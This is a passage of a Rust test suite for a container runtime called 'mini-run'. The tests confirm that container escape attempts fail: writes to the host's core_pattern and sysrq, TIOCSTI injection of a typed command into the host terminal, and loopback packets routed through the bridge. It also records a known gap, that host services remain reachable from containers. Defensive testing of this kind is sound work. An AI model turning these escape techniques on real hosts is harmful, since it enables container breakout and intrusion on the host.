    let (out, lines) = container(&["-e", &env], &script)?;
    ensure(out.status.success(), describe(&out))?;
    let now = std::fs::read_to_string(CORE_PATTERN)?;
    ensure_eq(&now, &guard.0, "the host's core_pattern")?;
    for what in [
        "container core_pattern",
        "container sysrq",
        "userns core_pattern",
        "userns sysrq",
        "remount",
        "umount",
        "fresh proc",
        "fresh core_pattern",
    ] {
        ensure_eq(
            said(&lines, what),
            Some("refused"),
            &format!("{what}\n{}", describe(&out)),
        )?;
    }
    if let Some(before) = log_before {
        ensure_eq(sysrq_lines()?, before, "sysrq lines in the kernel's log")?;
    } else {
        println!(
            "  this kernel has no /proc/sysrq-trigger (no CONFIG_MAGIC_SYSRQ): only the write's refusal is checked"
        );
    }
    ensure(!mark.exists(), "a core dump ran the container's program")?;
    same_mounts(&mounts, dir.path())
}

/// Whether input waits on the terminal, for whoever reads it next: the
/// learner's shell, once mini-run has exited.
fn input_waiting(slave: &std::fs::File) -> Result<bool, Failed> {
    use std::os::fd::AsFd;
    let mut fds = [nix::poll::PollFd::new(
        slave.as_fd(),
        nix::poll::PollFlags::POLLIN,
    )];
    Ok(nix::poll::poll(&mut fds, nix::poll::PollTimeout::ZERO)? > 0)
}

fn tiocsti(payload: &Path) -> Result<(), Failed> {
    // mini-run in a terminal that is its controlling terminal, as in a
    // learner's shell; the payload pushes a command into the input of the
    // terminal on its stdin. Without -t that is the host's terminal
    // (tests/mini_run.rs no_terminal checks it is not the container's
    // controlling one); with -t it is the container's own pty. Afterwards
    // no input may wait on the host's terminal.
    let dir = scratch();
    let root = rootfs_copy(dir.path(), Some(payload))?;
    let mark = dir.path().join("typed");
    let typed = format!("touch {}\n", mark.display());
    for t in [false, true] {
        let pty = nix::pty::openpty(None, None)?;
        let master = std::fs::File::from(pty.master);
        let slave = std::fs::File::from(pty.slave);
        let mut command = Command::new("setsid");
        command
            .arg("--ctty")
            .arg(support::bin("mini-run"))
            .args(["run", "--rm", "--network", "none", "--rootfs"])
            .arg(&root);
        if t {
            command.arg("-t");
        }
        let child = command
            .args(["--", "/payload", "tiocsti", &typed])
            .env("LC_ALL", "C")
            .stdin(slave.try_clone()?)
            .stdout(slave.try_clone()?)
            .stderr(slave.try_clone()?)
            .spawn()?;
        let mut child = support::ChildGuard(child);
        let mut seen = String::new();
        read_until(&master, &mut seen, "tiocsti: ")?;
        let status = child.0.wait()?;
        ensure(status.success(), format!("mini-run {status}:\n{seen}"))?;
        let result = seen
            .lines()
            .find_map(|l| l.trim().strip_prefix("tiocsti: "))
            .unwrap_or("")
            .trim()
            .to_string();
        ensure(
            !input_waiting(&slave)?,
            format!("input waits on the host's terminal after TIOCSTI (-t {t}):\n{seen}"),
        )?;
        if !t {
            ensure(
                result != "ok",
                format!("TIOCSTI reached the host's terminal:\n{seen}"),
            )?;
        }
        println!(
            "  {}: TIOCSTI {result}",
            if t {
                "with -t, on the container's own pty"
            } else {
                "without -t, on the host's terminal"
            }
        );
    }
    ensure(!mark.exists(), "the typed command ran")
}

fn beyond_the_bridge(payload: &Path) -> Result<(), Failed> {
    // A network and mount namespace of the test's own stands for the host,
    // with a tmpfs over /run (as tests/mini_run.rs default_bridge does): the
    // machine's own interfaces, routes and firewall stay untouched. There,
    // the default bridge is made on first use; a published port turns on
    // route_localnet. Counters in a table of the test's own, at the input
    // hook, count what arrives for the host's loopback, and for its
    // address on an interface that is not the bridge.
    let dir = scratch();
    let root = rootfs_copy(dir.path(), Some(payload))?;
    let links_before = host_links()?;
    let tables_before = host_tables()?;
    let script = format!(
        r#"set -e
        mount -t tmpfs sandbox /run; ip link set lo up
        ip link add beyond0 type veth peer name beyond1; ip addr add 192.0.2.1/24 dev beyond0
        ip link set beyond0 up; ip link set beyond1 up
        nft add table ip probe
        nft add chain ip probe arrive '{{ type filter hook prerouting priority -400; policy accept; }}'
        nft add rule ip probe arrive ip daddr 127.0.0.0/8 udp dport 9999 counter comment '"arrived"'
        nft add chain ip probe input '{{ type filter hook input priority 0; policy accept; }}'
        nft add rule ip probe input ip daddr 127.0.0.0/8 udp dport 9999 counter comment '"loopback"'
        nft add rule ip probe input ip daddr 192.0.2.1 counter comment '"beyond"'
        # The container waits on its stdin, a fifo, so that what the port
        # turned on can be read while it runs.
        mkfifo /run/in /run/out
        mini-run run --rm --rootfs {root} -p 18099:80 -- sh -c 'hostname; /payload localnet 10.208.0.1 9999; ping -c 1 -W 2 192.0.2.1 >/dev/null && echo "ping beyond: ok" || echo "ping beyond: refused"; echo sent; read end; exit 0' < /run/in > /run/out &
        exec 3> /run/in 4< /run/out
        while read -r line <&4; do echo "$line"; [ "$line" != sent ] || break; done
        echo "route_localnet $(cat /proc/sys/net/ipv4/conf/underhood0/route_localnet)"
        nft list table ip probe | sed -n 's/.*packets \([0-9]*\).*comment "\(.*\)".*/counted \2 \1/p'
        exec 3>&-
        wait $!
        cat <&4"#,
        root = root.display()
    );
    let out = support::in_own_network(&script)?;
    ensure(out.status.success(), describe(&out))?;
    let lines: Vec<String> = stdout(&out).lines().map(String::from).collect();
    left_nothing(lines.first().ok_or(describe(&out))?)?;
    ensure_eq(&host_links()?, &links_before, "the machine's links")?;
    ensure_eq(&host_tables()?, &tables_before, "the machine's nft tables")?;
    ensure_eq(
        said(&lines, "sendto 127.0.0.1 through the gateway"),
        Some("ok"),
        &format!("the payload sent its packets\n{}", describe(&out)),
    )?;
    ensure(
        lines.iter().any(|l| l == "route_localnet 1"),
        format!(
            "route_localnet was not on, so the attempt proved nothing\n{}",
            describe(&out)
        ),
    )?;
    ensure(
        lines
            .iter()
            .any(|l| l.starts_with("counted arrived ") && l != "counted arrived 0"),
        format!(
            "no packet for 127.0.0.1 arrived from the bridge\n{}",
            describe(&out)
        ),
    )?;
    // The bridge's guard drops them in prerouting, before routing.
    ensure(
        lines.iter().any(|l| l == "counted loopback 0"),
        format!(
            "a packet for 127.0.0.1 reached the host's input\n{}",
            describe(&out)
        ),
    )?;
    let beyond = lines
        .iter()
        .find_map(|l| l.strip_prefix("counted beyond "))
        .and_then(|n| n.parse::<u64>().ok())
        .ok_or(describe(&out))?;
    println!(
        "  127.0.0.1 through the gateway with route_localnet on: dropped by the bridge's guard"
    );
    if beyond > 0 {
        known_gap(
            "the host's address on an interface beyond the bridge answers the container \
             (ping 192.0.2.1 reached the host's input): mini-run filters no input from its bridge, \
             as Docker does not; a service the host binds to any address is reachable from every container",
        );
    }
    Ok(())
}

/// The machine's links' names.
fn host_links() -> Result<Vec<String>, Failed> {
    let out = run_for(Command::new("ip").args(["-o", "link", "show"]), 30)?;
    Ok(stdout(&out)
        .lines()
        .filter_map(|l| Some(l.split(':').nth(1)?.trim().to_string()))
        .collect())
}

/// The machine's nft tables.
fn host_tables() -> Result<String, Failed> {
    let out = run_for(Command::new("nft").args(["list", "tables"]), 30)?;
    Ok(stdout(&out))
}
